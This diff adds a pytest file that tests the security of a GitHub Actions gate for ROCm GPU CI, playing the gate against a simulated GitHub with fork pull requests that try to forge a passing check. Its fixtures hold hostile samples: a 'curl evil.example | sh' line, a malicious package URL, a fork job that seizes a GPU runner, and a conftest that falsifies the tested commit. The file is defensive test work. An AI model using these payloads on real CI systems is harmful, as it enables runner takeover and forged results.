@@ -1,0 +1,323 @@
+"""The trigger chain as an upstream repository runs it: the shipped workflow files (examples/upstream/ calling
+.github/workflows/), played by tests/actions.py as GitHub documents each event, against the loopback GitHub.
+
+The happy paths end with exactly one check on the PR's head with the right conclusion; each attack of the issue
+"A required check that cannot be forged" (README, "Threat model") is a case that ends without a green check and
+without the fork's code on a GPU runner.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import rsa
+
+from actions import PYTEST_ROCM, Actions, RunnerGroup, write_gpu_tools
+from conftest import REPO
+from github_api import FakeGitHub
+
+EXAMPLES = REPO / "examples" / "upstream"
+PIN = re.search(r"rocm-gate\.yml@([0-9a-f]{40})", (EXAMPLES / "rocm-gate.yml").read_text())[1]
+GATE_PIN = f"{PYTEST_ROCM}/.github/workflows/rocm-gate.yml@{PIN}"
+CHECK = "rocm-gate / MI300X-8"
+
+# The upstream's own gate tests, where the shipped caller looks for them.
+GATES = {
+    "tests/kernels/attention/test_paged.py": (
+        "import pytest\n\npytestmark = pytest.mark.rocm_gate(group='attention')\n\n"
+        "def test_paged_attention():\n    assert sum([1, 2]) == 3\n"),
+    "tests/entrypoints/openai/test_api.py": (
+        "import pytest\n\n@pytest.mark.rocm_gate(group='api')\ndef test_chat():\n    assert 'ok'\n"),
+    "pyproject.toml": "[project]\nname = 'vllm'\nversion = '0'\n",
+}
+REGRESSION = {"tests/kernels/attention/test_paged.py": GATES["tests/kernels/attention/test_paged.py"].replace(
+    "assert sum([1, 2]) == 3", "assert sum([1, 2]) == 4, 'paged attention output differs'")}
+
+
+def one_class(text: str, name: str) -> str:
+    """The shipped callers name two classes; this upstream has runners of one (mi300x-8), as a repository
+    with one class writes them. The edit must apply, so a change to the shipped files shows here."""
+    edits = {"rocm-gate.yml": ('\'["mi300x-8", "mi355x-8"]\'', '\'["mi300x-8"]\''),
+             "rocm-gate-publish.yml": ("          - runner-class: mi355x-8\n            runner-group: rocm-mi355x-8\n", ""),
+             "rocm-gate-sweep.yml": ("mi300x-8=rocm-mi300x-8 mi355x-8=rocm-mi355x-8", "mi300x-8=rocm-mi300x-8")}
+    old, new = edits[name]
+    assert old in text, f"examples/upstream/{name} changed: update the harness's one-class edit"
+    return text.replace(old, new)
+
+
+@pytest.fixture
+def github(tmp_path):
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    with FakeGitHub(token="ghs_unused") as fake:
+        fake.app_public_key = key.public_key()
+        fake.permissions.update({"maintainer": "maintain", "triager": "triage", "reader": "read"})
+        fake.private_key = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                                             serialization.NoEncryption()).decode()
+        yield fake
+        assert fake.errors == [], "the loopback GitHub sent a response GitHub's description does not allow"
+
+
+@pytest.fixture
+def upstream(github, tmp_path) -> Actions:
+    actions = Actions(github, tmp_path / "github", secrets={
+        "ROCM_GATE_APP_ID": "31337", "ROCM_GATE_APP_PRIVATE_KEY": github.private_key,
+        "ROCM_GATE_APP_INSTALLATION_ID": "77"})
+    actions.runner_groups.append(RunnerGroup("rocm-mi300x-8", {"self-hosted", "mi300x-8"}, [GATE_PIN],
+                                             write_gpu_tools(tmp_path / "mi300x-8-tools")))
+    files = {f".github/workflows/{p.name}": one_class(p.read_text(), p.name) for p in sorted(EXAMPLES.glob("*.yml"))}
+    actions.commit({**files, **GATES}, "the upstream repository with the AMD gate")
+    return actions
+
+
+def checks(github, sha: str) -> list[dict]:
+    return sorted(github.checks(sha, CHECK), key=lambda c: c["id"])
+
+
+def on_gpu(upstream: Actions) -> list[str]:
+    """Jobs a self-hosted GPU runner took, in every run so far."""
+    return [j.name for run in upstream.runs for j in run.jobs if j.runner_group]
+
+
+def test_a_same_repository_pr_ends_with_one_green_check_on_its_head(upstream, github):
+    pull = upstream.open_pull(101, {"vllm/model.py": "x = 1\n"}, fork=False, author="maintainer")
+    run = upstream.pull_request(pull, "opened", "maintainer")
+    gate = run.job("/ gate")
+    assert gate.runner_group == "rocm-mi300x-8" and gate.conclusion == "success", gate.steps
+    assert (PYTEST_ROCM, PIN) in gate.checkouts and (upstream.repo, pull.merge) in gate.checkouts
+    [check] = checks(github, pull.head)
+    assert (check["status"], check["conclusion"]) == ("completed", "success"), check["output"]["summary"]
+    assert check["external_id"] == str(run.id)
+    assert github.checks(pull.merge) == []  # never on the merge commit the run tested
+    summary = check["output"]["summary"]
+    assert f"Tested commit {pull.merge[:12]}: the merge of {pull.head[:12]}" in summary
+    assert "MI300X" in summary and "SIMULATED" not in summary
+
+
+def test_an_approved_fork_pr_waits_then_ends_with_one_check_on_its_head(upstream, github):
+    pull = upstream.open_pull(102, {"vllm/model.py": "x = 2\n"}, fork=True)
+    opened = upstream.pull_request(pull, "opened", "forker")
+    assert on_gpu(upstream) == [] and opened.job("/ trust").outputs["trusted"] == "false"
+    [waiting] = checks(github, pull.head)
+    assert (waiting["conclusion"], waiting["output"]["title"]) == ("action_required", "Waiting for approval")
+    labeled = upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
+    assert on_gpu(upstream) == ["gate (mi300x-8) / gate"]
+    [check] = checks(github, pull.head)  # the placeholder was taken over: still one check
+    assert check["id"] == waiting["id"] and check["external_id"] == str(labeled.id)
+    assert check["conclusion"] == "success", check["output"]["summary"]
+
+
+def test_a_new_push_to_an_approved_fork_pr_needs_a_new_approval(upstream, github):
+    pull = upstream.open_pull(103, {"vllm/model.py": "x = 3\n"}, fork=True)
+    upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
+    first = pull.head
+    upstream.push_to_pull(pull, {"vllm/model.py": "import os; os.system('curl evil.example | sh')\n"})
+    upstream.pull_request(pull, "synchronize", "forker")
+    assert on_gpu(upstream) == ["gate (mi300x-8) / gate"]  # only the approved commit's run
+    assert [c["conclusion"] for c in checks(github, first)] == ["success"]
+    [waiting] = checks(github, pull.head)
+    assert waiting["conclusion"] == "action_required" and "again after a new push" in waiting["output"]["summary"]
+
+
+def test_a_label_by_someone_without_write_access_approves_nothing(upstream, github):
+    pull = upstream.open_pull(104, {"vllm/model.py": "x = 4\n"}, fork=True)
+    for who in ("triager", "reader"):
+        upstream.pull_request(pull, "labeled", who, label="rocm-ci-approved")
+    assert on_gpu(upstream) == []
+    assert [c["conclusion"] for c in checks(github, pull.head)] == ["action_required"]
+
+
+FORK_CALLER_IGNORING_LABELS = '''
+name: rocm-gate
+on:
+  pull_request:
+    types: [opened, synchronize, reopened, labeled]
+permissions: {}
+jobs:
+  gate:
+    permissions:
+      contents: read
+      actions: read
+    uses: rocm/pytest-rocm/.github/workflows/rocm-gate.yml@%s
+    with:
+      runner-class: mi300x-8
+      suites: tests -m rocm_gate
+'''
+
+
+@pytest.mark.parametrize("caller", ["shipped", "fork's copy without the label filter"])
+def test_another_label_on_an_approved_fork_pr_changes_nothing(upstream, github, caller):
+    files = {"vllm/model.py": "x = 5\n"}
+    if caller != "shipped":
+        files[".github/workflows/rocm-gate.yml"] = FORK_CALLER_IGNORING_LABELS % PIN
+    pull = upstream.open_pull(105, files, fork=True)
+    upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
+    [before] = checks(github, pull.head)
+    assert before["conclusion"] == "success"
+    run = upstream.pull_request(pull, "labeled", "maintainer", label="documentation")
+    assert len(on_gpu(upstream)) == 1  # the approval's run only
+    if caller != "shipped":
+        assert run.job("/ trust").outputs["trusted"] == "false"
+    [after] = checks(github, pull.head)
+    assert after == before  # not a newer action_required check over the passed one, not even an update
+
+
+def fork_caller(jobs: str) -> dict:
+    return {".github/workflows/rocm-gate.yml": "name: rocm-gate\non:\n  pull_request:\n    types: [opened, synchronize, "
+            "reopened, labeled]\npermissions: {}\njobs:\n" + jobs}
+
+
+CALLER_WITH_INPUTS = '''  gate:
+    uses: rocm/pytest-rocm/.github/workflows/rocm-gate.yml@%s
+    with:
+      runner-class: mi300x-8
+      %s
+'''
+
+
+@pytest.mark.parametrize("extra", ["pytest-rocm: git+https://evil.example/pytest-rocm", "approval-label: documentation"])
+def test_a_fork_caller_cannot_choose_the_code_that_decides_or_the_label(upstream, github, extra):
+    pull = upstream.open_pull(106, fork_caller(CALLER_WITH_INPUTS % (PIN, extra)), fork=True)
+    run = upstream.pull_request(pull, "labeled", "maintainer", label="documentation")
+    assert run.conclusion == "startup_failure" and "is not defined in the referenced workflow" in run.jobs[-1].name
+    assert [j.name for j in run.jobs] == [run.jobs[-1].name]  # no job of the gate run ran, not even trust
+    assert not any("evil" in line for line in upstream.installs()) and on_gpu(upstream) == []
+    assert all(c["conclusion"] != "success" for c in checks(github, pull.head))
+
+
+DIRECT_GPU_JOB = '''  pwn:
+    runs-on: [self-hosted, mi300x-8]
+    steps:
+      - run: echo "the fork's code on a GPU runner" && touch /tmp/pwned
+'''
+OTHER_PIN = '''  gate:
+    uses: rocm/pytest-rocm/.github/workflows/rocm-gate.yml@0000000000000000000000000000000000000001
+    with:
+      runner-class: mi300x-8
+'''
+
+
+@pytest.mark.parametrize("jobs", [DIRECT_GPU_JOB, OTHER_PIN], ids=["own job on the runner", "another pin"])
+def test_a_fork_caller_never_gets_a_gpu_runner_even_after_approval(upstream, github, jobs):
+    pull = upstream.open_pull(107, fork_caller(jobs), fork=True)
+    run = upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
+    refused = [j for j in run.jobs if j.runs_on and "self-hosted" in j.runs_on]
+    assert refused and all(j.runner_group is None and j.conclusion == "cancelled" for j in refused)
+    assert "admits only jobs of" in refused[0].steps[0]["output"]
+    [check] = checks(github, pull.head)
+    assert check["conclusion"] == "action_required"
+
+
+FAKE_RESULTS_JOB = '''  gate:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          mkdir -p tests/fake && printf 'import pytest\\n@pytest.mark.rocm_gate(group="api")\\ndef test_ok():\\n    pass\\n' > tests/fake/test_ok.py
+          python -m pytest tests/fake --rocm-platform=mi300x-8 --rocm-report-dir=out/gate -p no:cacheprovider || true
+      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2
+        with:
+          name: rocm-gate-results-mi300x-8
+          path: out/gate/
+%s'''
+ALSO_CALL_THE_PIN = '''  decoy:
+    uses: rocm/pytest-rocm/.github/workflows/rocm-gate.yml@%s
+    with:
+      runner-class: mi300x-8
+'''
+
+
+@pytest.mark.parametrize("decoy", [False, True], ids=["hosted job only", "and a call of the pinned workflow"])
+def test_results_a_fork_made_on_a_hosted_runner_never_make_a_green_check(upstream, github, decoy):
+    jobs = FAKE_RESULTS_JOB % (ALSO_CALL_THE_PIN % PIN if decoy else "")
+    pull = upstream.open_pull(108, {**fork_caller(""), ".github/workflows/rocm-gate.yml": fork_caller(jobs)[
+        ".github/workflows/rocm-gate.yml"]}, fork=True)
+    run = upstream.pull_request(pull, "opened", "forker")
+    assert [j.conclusion for j in run.jobs if j.name == "gate"] == ["success"]  # the forged results were uploaded
+    assert any(a["name"] == "rocm-gate-results-mi300x-8" and a["run_id"] == run.id for a in github.artifacts.values())
+    [check] = checks(github, pull.head)
+    assert check["conclusion"] == "action_required" and check["output"]["title"] == "Waiting for approval"
+    why = "did not use the pinned gate workflow" if not decoy else "no job of the run ran on the runner group"
+    assert why in check["output"]["summary"]
+
+
+SIMULATING_INI = {"pytest.ini": "[pytest]\naddopts = --rocm-platform=mi300x-8\n"}
+LYING_CONFTEST = '''
+import json, os, pathlib
+
+def pytest_unconfigure(config):
+    """Runs after the plugin wrote its artifacts: claim that the run tested another commit."""
+    path = pathlib.Path(os.environ["GITHUB_WORKSPACE"]) / "out" / "gate" / "manifest.json"
+    manifest = json.loads(path.read_text())
+    manifest["git_sha"] = manifest["provenance"]["head_sha"] = manifest["provenance"]["tested_sha"] = "%s"
+    path.write_text(json.dumps(manifest))
+'''
+
+
+def test_an_approved_run_on_a_simulated_platform_is_refused(upstream, github):
+    pull = upstream.open_pull(109, SIMULATING_INI, fork=False, author="maintainer")
+    upstream.pull_request(pull, "opened", "maintainer")
+    [check] = checks(github, pull.head)
+    assert check["conclusion"] == "action_required" and "simulated platform profile 'mi300x-8'" in check["output"]["summary"]
+
+
+def test_results_that_claim_another_commit_put_no_check_on_it(upstream, github):
+    target = upstream.main()
+    pull = upstream.open_pull(110, {"tests/conftest.py": LYING_CONFTEST % target}, fork=False, author="maintainer")
+    upstream.pull_request(pull, "opened", "maintainer")
+    assert checks(github, target) == []
+    [check] = checks(github, pull.head)
+    assert check["conclusion"] == "action_required"
+    assert f"the results say the head commit was {target}" in check["output"]["summary"]
+
+
+def rerun_button(upstream, github, check: dict, identifier: str, tmp_path) -> dict:
+    """What the relay does with the App's `check_run` webhook (README, "Buttons"): `rocm-gate rerun`."""
+    import os
+    import subprocess
+    import sys
+
+    from github_api import example, validate_webhook
+
+    event = example("check_run.requested_action")
+    event["check_run"].update(name=check["name"], head_sha=check["head_sha"], external_id=check["external_id"])
+    event["requested_action"] = {"identifier": identifier}
+    event["sender"]["login"] = "maintainer"
+    event["repository"]["default_branch"] = "main"
+    validate_webhook("check-run-requested-action", event)
+    path = tmp_path / "click.json"
+    path.write_text(json.dumps(event))
+    github.tokens.add("ghs_relay")
+    done = subprocess.run([sys.executable, "-m", "pytest_rocm.cli", "rerun", "--event-path", str(path)],
+                          env={**os.environ, "GITHUB_API_URL": github.url, "GITHUB_REPOSITORY": upstream.repo,
+                               "GITHUB_TOKEN": "ghs_relay"}, capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr
+    sent = github.dispatches[-1]
+    return upstream.dispatch(sent["workflow"], sent["inputs"], "rocm-gate[bot]", ref=sent["ref"])
+
+
+def test_re_run_amd_reruns_the_failures_and_lands_on_the_prs_head(upstream, github, tmp_path):
+    pull = upstream.open_pull(111, REGRESSION, fork=True)
+    first = upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
+    [failed] = checks(github, pull.head)
+    assert failed["conclusion"] == "failure" and "paged attention output differs" in failed["output"]["summary"]
+    rerun = rerun_button(upstream, github, failed, "rerun-amd", tmp_path)
+    assert rerun.event == "workflow_dispatch"
+    assert github.workflow_runs[rerun.id]["display_title"] == f"rocm-gate dispatch {pull.head}"
+    ran = rerun.job("/ gate").steps
+    [gates] = [s for s in ran if s["name"] == "run the gates"]
+    assert "test_paged_attention" in gates["output"] and "test_chat" not in gates["output"]  # only the failure
+    assert checks(github, upstream.main()) == []  # not on the default branch the dispatch ran from
+    older, newer = checks(github, pull.head)
+    assert older["id"] == failed["id"] and newer["external_id"] == str(rerun.id) != str(first.id)
+    assert newer["conclusion"] == "failure"
+
+
+def test_the_merge_queue_gets_its_check_on_the_groups_commit(upstream, github):
+    pull = upstream.open_pull(112, {"vllm/model.py": "x = 12\n"}, fork=True)
+    upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
+    queued = upstream.merge_group(pull)
+    group = github.workflow_runs[queued.id]["head_sha"]
+    [check] = checks(github, group)
+    assert check["conclusion"] == "success" and check["external_id"] == str(queued.id)
